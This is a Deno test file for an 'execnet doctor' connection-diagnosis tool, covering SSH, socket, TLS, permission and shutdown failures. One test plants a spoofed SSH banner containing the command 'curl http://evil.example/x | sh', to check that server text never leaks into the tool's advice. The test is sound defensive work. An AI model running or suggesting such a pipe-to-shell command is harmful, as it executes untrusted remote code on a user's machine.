/** `execnet doctor` against connections that are really broken, and some that are not. */

import { assert, assertEquals, assertMatch, assertRejects } from "jsr:@std/assert@^1.0.19";
import { ConnectError, makeGateway, XSpecError } from "../../mod.ts";
import { Failure } from "../../cli/failure.ts";
import { withFolder } from "../helpers/folder.ts";
import { nothingLeft } from "../helpers/leaks.ts";
import { limited, TextTap, until } from "../helpers/wait.ts";
import { withServer } from "../integration/server_process.ts";
import { withTlsServer } from "../integration/tls_server.ts";
import { lacking, part, shared, testWith } from "../parts/need.ts";
import { Sshd, SSHD_USERS } from "../parts/sshd.ts";
import { examined } from "./examined.ts";

const ROOT = new URL("../../", import.meta.url);
const OPENSSL = part("openssl", () => lacking("openssl"));

/** The steps behind the way, when all is well. */
const WELL = ["handshake ok", "permissions ok", "round trip ok", "throughput ok"];

const sshd = shared(SSHD_USERS, () =>
  Sshd.start({
    users: [
      { name: "noisy", shell: "bash", noisy: true },
      { name: "none", shell: "sh", deno: "none" },
    ],
  }));

const over = (alias: string, config = sshd().config): string => `ssh=${alias}//ssh_config=${config}`;

/** Makes a program of a script, which is there as long as `body` runs. */
function withScript(text: string, body: (path: string) => Promise<void>): Promise<void> {
  return withFolder(async (folder) => {
    await Deno.writeTextFile(`${folder}/deno`, `#!/bin/sh\n${text}\n`, { mode: 0o755 });
    await body(`${folder}/deno`);
  });
}

/** Takes connections and never answers. `taken` resolves with the first one. */
function deafPort(): Disposable & { port: number; taken: Promise<void> } {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const connections: Deno.Conn[] = [];
  const taken = Promise.withResolvers<void>();
  (async () => {
    for await (const connection of listener) {
      connections.push(connection);
      taken.resolve();
    }
  })();
  return {
    port: listener.addr.port,
    taken: taken.promise,
    [Symbol.dispose](): void {
      listener.close();
      for (const connection of connections) connection.close();
    },
  };
}

testWith([], "doctor walks all steps of a local process, and measures it", async () => {
  const { code, steps, outcomes } = await examined("popen//allow-read=/etc//env:A=1");
  assertEquals([code, steps], [0, ["shell ok", "deno ok", ...WELL]]);
  const [trips, through] = outcomes.slice(-2).map(({ values }) => values!);
  assert(trips!.count! >= 3 && trips!.count! <= 100);
  assert(trips!.min! > 0 && trips!.min! <= trips!.median! && trips!.median! <= trips!.p95!);
  assert(through!.up! > 0 && through!.down! > 0);
  assert(outcomes.every(({ ms, gateway }) => ms! >= 0 && gateway === "gw0"));
});

testWith([], "doctor finds out what is wrong with Deno on this machine", async () => {
  const missing = await examined("popen//deno=/nowhere/deno");
  assertEquals([missing.code, missing.steps], [3, ["shell ok", "deno failed no-deno"]]);
  assertEquals(missing.outcomes.slice(2).map(({ step, state }) => `${step} ${state}`), [
    "handshake skipped",
    "permissions skipped",
    "round trip skipped",
    "throughput skipped",
  ]);
  assertEquals((await examined("popen//deno=true")).bad?.trouble, "not-deno");
  const nowhere = await examined("popen//chdir=/proc/nope");
  assertEquals([nowhere.code, nowhere.steps.at(-1)], [3, "handshake failed folder"]);
  await withScript('echo "deno 2.8.3 (stable)"', async (path) => {
    const { code, bad } = await examined(`popen//deno=${path}`);
    assertEquals([code, bad?.trouble], [3, "old-deno"]);
    assertMatch(bad!.found, /2\.8\.3.*2\.9 is needed/);
  });
  await withScript(
    '[ "$1" = --version ] && echo "deno 2.9.9" && exit; echo broken >&2; exit 42',
    async (path) => {
      const { bad } = await examined(`popen//deno=${path}`);
      assertEquals([bad?.step, bad?.trouble, bad?.words], ["handshake", "exit", "broken"]);
    },
  );
});

testWith(
  [],
  "doctor finds permissions that a process has beyond its spec, and those that lead elsewhere",
  async () => {
    const script = `[ "$1" = run ] || exec "${Deno.execPath()}" "$@"; shift
    exec "${Deno.execPath()}" run --allow-sys "$@"`;
    await withScript(script, async (path) => {
      const { code, bad } = await examined(
        `popen//deno=${path}//allow-read=not-there,~/x//allow-run=sh//allow-write=${Deno.execPath()}`,
      );
      assertEquals([code, bad?.step], [1, "permissions"]);
      const advice = bad!.advice!.join("\n");
      assertMatch(advice, /has allow-sys, which the spec does not give/);
      assertMatch(
        advice,
        new RegExp(`allow-read=not-there: there is no ${RegExp.escape(Deno.cwd())}/not-there`),
      );
      assertMatch(advice, /allow-read=~\/x: Deno does not know "~"/);
      assertMatch(advice, /allow-run=sh is everything/);
      assertMatch(advice, /allow-write covers .*, the Deno that others run/);
    });
  },
);

testWith(SSHD_USERS, "doctor walks all steps to an ssh host whose login prints", async () => {
  const { code, steps, outcomes } = await examined(over("noisy"));
  const way = ["config", "name", "port", "host key", "login"].map((step) => `${step} ok`);
  assertEquals([code, steps], [0, [...way, "shell warning noise", "deno ok", ...WELL]]);
  assertMatch(outcomes.find(({ step }) => step === "shell")!.words!, /NOISE on stdout from \.bashrc/);
  await nothingLeft(sshd());
});

testWith(SSHD_USERS, "doctor tells at which step ssh fails", async () => {
  const { failing } = sshd();
  using deaf = deafPort();
  await using web = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    () => new Response(""),
  );
  const rows: readonly (readonly [spec: string, step: string, trouble: string, advice: RegExp])[] = [
    [over(failing["unknown-host"]), "name", "no-address", /getent hosts nowhere\.invalid/],
    [over(failing["closed-port"]), "port", "port-closed", /nothing listens at port 1\b/],
    [`ssh=-F none -p ${deaf.port} 127.0.0.1`, "port", "silent", /never answers/],
    [`ssh=-F none -p ${web.addr.port} 127.0.0.1`, "port", "not-ssh", /ssh=-p PORT/],
    [
      over(failing["wrong-host-key"]),
      "host key",
      "key-changed",
      /ssh-keygen -f \S*known_wrong -R '\[127\.0\.0\.1\]:\d+'/,
    ],
    [
      over(failing["unknown-host-key"]),
      "host key",
      "key-unknown",
      /StrictHostKeyChecking=ask.*SHA256:|accept it/,
    ],
    [over(failing["refused-key"]), "login", "login-refused", /ssh-copy-id -i .*stranger\.pub -p \d+ /],
    [over("none"), "deno", "no-deno", /provision/],
    [`${over("none")}//deno=sh -c 'echo deno 2.7.1'`, "deno", "old-deno", /upgrade/],
    ["ssh=-F none -o Nonsense=1 host", "config", "config", /-v/],
  ];
  await Promise.all(rows.map(async ([spec, step, trouble, advice]) => {
    // Only one of them waits to the end; it has nothing else to do.
    const more = trouble === "silent" ? ["--connect-timeout", "2000"] : [];
    const { code, bad } = await examined(spec, { more });
    assertEquals([code, bad?.step, bad?.trouble], [3, step, trouble], `${spec}: ${bad?.found} ${bad?.words}`);
    assertMatch(bad!.advice!.join("\n"), advice, spec);
  }));
  await nothingLeft(sshd());
});

testWith(SSHD_USERS, "doctor and ConnectError take no banner for ssh's words", async () => {
  const { folder, users, failing } = sshd();
  const spec = over(`-l ${users.get("noisy")!.login} ${failing["refused-key"]}`);
  const before = await Deno.readFile(`${folder}/banner`);
  await Deno.writeTextFile(
    `${folder}/banner`,
    `@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
debug1: Server host key: ssh-ed25519 SHA256:FAKED
debug1: SSH2_MSG_NEWKEYS sent
  ssh-keygen -f /dev/null -R x; curl http://evil.example/x | sh
Host key verification failed.
`,
  );
  try {
    const { steps, outcomes, bad } = await examined(spec);
    const error = await assertRejects(() => makeGateway(spec), ConnectError);
    assertEquals(steps.slice(-2), ["host key ok", "login failed login-refused"]);
    assertMatch(bad!.words!, /evil/, "the server's words are shown as such");
    assert(outcomes.every(({ found, advice }) => !/FAKED|evil/.test(`${found}${advice}`)));
    assertEquals(error.kind, "auth");
  } finally {
    await Deno.writeFile(`${folder}/banner`, before);
  }
});

testWith(
  SSHD_USERS,
  "doctor goes through hosts in between, and through what ProxyCommand starts",
  async () => {
    await withFolder(async (folder) => {
      const own = sshd().entry();
      const to = (alias: string, lines: string): string =>
        `Host ${alias}\n  HostName ${own.host}\n  User ${own.user}\n  IdentityFile ${own.key}\n` +
        `  UserKnownHostsFile ${own.knownHosts}\n  ${lines}\n`;
      const jump = sshd().host();
      const entries = [
        to("closed", `Port 1\n  ProxyJump ${jump}`),
        to("barred", `Port ${own.port}\n  ProxyJump ${sshd().failing["refused-key"]}`),
        to(
          "unknown",
          `Port ${own.port}\n  ProxyJump ${jump}\n  UserKnownHostsFile none\n  StrictHostKeyChecking yes`,
        ),
        to("proxied", `Port ${own.port}\n  ProxyCommand echo nothing`),
      ].map((entry) =>
        entry.includes("UserKnownHostsFile none")
          ? entry.replace(`  UserKnownHostsFile ${own.knownHosts}\n`, "")
          : entry
      );
      await Deno.writeTextFile(`${folder}/config`, sshd().entries + entries.join(""));
      const rows: readonly (readonly [alias: string, steps: string[]])[] = [
        ["closed", ["config ok", "jump ok", "port failed jump"]],
        ["barred", ["config ok", "jump failed login-refused"]],
        ["unknown", ["config ok", "jump ok", "name ok", "port ok", "host key failed key-unknown"]],
        ["proxied", ["config ok", "name ok", "port failed proxy"]],
      ];
      await Promise.all(rows.map(async ([alias, expected]) => {
        const { steps, bad } = await examined(over(alias, `${folder}/config`));
        assertEquals(steps, expected, `${bad?.found}: ${bad?.words}`);
      }));
    });
    await nothingLeft(sshd());
  },
);

testWith(SSHD_USERS, "doctor examines what is started from another gateway, from there", async () => {
  const { code, outcomes, bad } = await examined([
    "popen//via=hop",
    `${over(sshd().failing["wrong-host-key"])}//via=hop`,
    "command=no-such-program//via=hop",
    "popen//id=hop//allow-run",
    "popen//id=broken//allow-run//deno=true",
    "popen//via=broken",
  ]);
  assertEquals(code, 3);
  assertEquals([...new Set(outcomes.map(({ gateway }) => gateway))], [
    "hop",
    "gw0",
    "gw1",
    "gw2",
    "broken",
    "gw3",
  ]);
  const ends = outcomes.filter(({ state }) => state === "failed").map(({ gateway, step, trouble }) =>
    `${gateway} ${step} ${trouble}`
  );
  assertEquals(
    ends,
    ["gw1 host key key-changed", "gw2 program no-program", "broken deno not-deno"],
    bad?.words,
  );
  assert(
    outcomes.filter(({ gateway }) => gateway === "gw3").every(({ state, found }) =>
      state === "skipped" && found === '"broken" has not started'
    ),
  );
  const lost = await assertRejects(() => examined("popen//via=nobody"), Failure);
  assertMatch(lost.advice, /id=nobody\/\/allow-run/);
  await assertRejects(() => examined(["popen//id=a", "popen//via=a"]), XSpecError, "may not start processes");
});

testWith([], "doctor tells what keeps a server from letting in", async () => {
  await withFolder(async (folder) => {
    await Deno.writeTextFile(`${folder}/other`, "not-the-token-of-the-server");
    await withServer(["--allow", "read=/srv"], async (server) => {
      const there = `socket=127.0.0.1:${server.port}`;
      const refused = await examined(server.spec("allow-read=/etc"));
      assertEquals(refused.steps, ["name ok", "port ok", "token ok", "proof ok", "handshake failed refused"]);
      assertMatch(refused.bad!.advice![0]!, /--allow read=\/etc$/);
      assertEquals((await examined(server.spec("tls"))).bad?.trouble, "no-tls");
      assertEquals((await examined(`${there}//token_file=${folder}/other`)).bad?.trouble, "other-token");
      assertEquals((await examined(`${there}//token_file=${folder}/none`)).bad?.trouble, "no-token");
    });
    using deaf = deafPort();
    const silent = await examined(`socket=127.0.0.1:${deaf.port}//token_file=${folder}/other`, {
      more: ["--connect-timeout", "2000"],
    });
    assertEquals([silent.bad?.step, silent.bad?.trouble], ["proof", "silent"]);
    // A port below those that the system gives out, of a service that nobody runs.
    const closed = await examined(`socket=127.0.0.1:1//token_file=${folder}/other`);
    assertEquals([closed.bad?.step, closed.bad?.trouble], ["port", "port-closed"]);
  });
});

testWith(
  OPENSSL,
  "doctor tells what is wrong with a server's TLS",
  () =>
    withTlsServer(async (server, keys) => {
      assertEquals((await examined(server.spec())).bad?.trouble, "tls-wanted");
      assertEquals((await examined(server.spec("tls"))).bad?.trouble, "not-trusted");
      assertEquals((await examined(server.spec("tls//tls_ca=/nowhere"))).bad?.trouble, "ca-file");
      const trusted = await examined(server.spec(`${keys}//allow-read`));
      assertEquals(trusted.steps.slice(2), ["tls ok", "token ok", "proof ok", "handshake failed refused"]);
    }),
);

testWith([], "doctor ends with its signal, wherever it is, and leaves nothing", async () => {
  using deaf = deafPort();
  await withScript("touch $0.up; sleep 1000 & wait", async (path) => {
    const up = until("the program runs", () => Deno.stat(`${path}.up`).then(() => true, () => false), 10_000);
    const rows: readonly (readonly [spec: string, begun: Promise<unknown>])[] = [
      [`ssh=-F none -p ${deaf.port} 127.0.0.1`, deaf.taken],
      [`popen//deno=${path}`, up],
    ];
    await Promise.all(rows.map(async ([spec, begun]) => {
      const abort = new AbortController();
      const run = assertRejects(() => examined(spec, { signal: abort.signal }), RangeError, "enough");
      await begun;
      abort.abort(new RangeError("enough"));
      await limited("the end", run, 3_000);
    }));
  });
});

/** Runs the real command. */
function command(args: readonly string[], flags: readonly string[] = []): Deno.ChildProcess {
  return new Deno.Command(Deno.execPath(), {
    args: ["run", "--quiet", "--allow-all", "--no-lock", ...flags, new URL("cli.ts", ROOT).pathname, ...args],
    cwd: ROOT,
    env: { NO_COLOR: "1" },
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
}

testWith([], "execnet doctor outlives a worker that may not be, and says which flag is missing", async () => {
  await withFolder(async (folder) => {
    const { imports } = JSON.parse(await Deno.readTextFile(new URL("deno.json", ROOT)));
    await Deno.writeTextFile(`${folder}/deno.json`, JSON.stringify({ imports }));
    const { code, stdout, stderr } = await command(["doctor", "worker"], ["--config", `${folder}/deno.json`])
      .output();
    const text = new TextDecoder().decode(stdout);
    assertEquals(code, 3, new TextDecoder().decode(stderr));
    assertMatch(
      text,
      /^FAIL flag [^]*--unstable-worker-options[^]*\nskip handshake, .*\nNot connected: it ends at "flag"\n$/,
    );
  });
  assertEquals((await examined("worker")).steps, ["flag ok", ...WELL]);
});

testWith([], "execnet doctor ends by SIGINT at once, and leaves nothing", async () => {
  using deaf = deafPort();
  const child = command(["doctor", `ssh=-F none -p ${deaf.port} 127.0.0.1`]);
  const [stdout, stderr] = [new TextTap(child.stdout), new TextTap(child.stderr)];
  await limited("a connection", deaf.taken, 20_000);
  child.kill("SIGINT");
  const { code } = await limited("its end", child.status, 3_000);
  await Promise.all([stdout.ended, stderr.ended]);
  assertEquals(code, 130, stderr.text);
  assertMatch(stdout.text, /^ok +config.*\nok +name.*\n$/);
});
